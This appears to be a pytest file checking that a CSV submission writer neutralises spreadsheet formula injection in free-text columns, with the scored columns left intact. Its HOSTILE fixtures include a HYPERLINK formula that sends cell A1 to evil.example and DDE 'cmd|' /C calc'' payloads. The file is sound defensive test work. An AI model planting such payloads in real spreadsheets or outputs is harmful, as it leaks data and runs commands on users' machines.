"""Issue 46, case 4: formula injection in submission.csv. A question from the user's CSV and the model's answer,
explanation and quotes (PDF text can steer it) came out as ``=HYPERLINK(...)`` and ``+cmd|' /C calc'!A0``.
Free-text cells that a spreadsheet would run are neutralised; the scored columns are written as they are, so
the WattBot metric scores the written file exactly as the unwritten frame."""
from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from pipeline.answer.submission import submission_frame, write_submission
from pipeline.score.wattbot import score_files, score_frames

GOLD = Path(__file__).resolve().parents[1] / "fixtures" / "corpus" / "rvignettes" / "solutions.csv"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def answers(gold: pd.DataFrame) -> list[dict]:
    """The gold answers, as the model would give them, with a formula in every free-text field."""
    out = []
    for i, row in enumerate(gold.itertuples(index=False)):
        out.append({"id": row.id, "answer": HOSTILE[i % len(HOSTILE)], "answer_value": str(row.answer_value),
                    "ref_id": [r.strip(" '") for r in row.ref_id.strip("[]").split(",")], "is_blank": False,
                    "supporting_materials": HOSTILE[(i + 1) % len(HOSTILE)],
                    "explanation": HOSTILE[(i + 2) % len(HOSTILE)]})
    return out


def test_free_text_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    gold = pd.read_csv(GOLD, dtype=str, keep_default_na=False)
    questions = gold[["id", "question", "answer_unit"]].copy()
    questions.loc[0, "question"] = '=HYPERLINK("http://evil.example","What?")'  # from the user's question file
    frame = submission_frame(questions, answers(gold), {})
    out = tmp_path / "submission.csv"
    write_submission(frame, out)
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    for col in ("question", "answer", "supporting_materials", "explanation"):
        starts = {r[col][:1] for r in rows}
        assert not starts & {"=", "+", "-", "@", "\t", "\r"}, col
    assert rows[0]["question"] == "'" + questions.loc[0, "question"]
    assert rows[1]["answer"] == "'" + HOSTILE[1]  # the text kept after the apostrophe
    for col in ("id", "answer_value", "answer_unit", "ref_id", "ref_url"):  # scored columns: as they were
        assert [r[col] for r in rows] == [str(x) for x in frame[col]], col


def test_the_written_file_scores_as_the_frame_did(tmp_path):
    gold = pd.read_csv(GOLD, dtype=str, keep_default_na=False)
    frame = submission_frame(gold[["id", "question", "answer_unit"]], answers(gold), {})
    out = tmp_path / "submission.csv"
    write_submission(frame, out)
    for profile in ("wattbot2025", "wattbot2026"):
        assert score_files(GOLD, out, profile) == score_frames(pd.read_csv(GOLD), frame, profile)
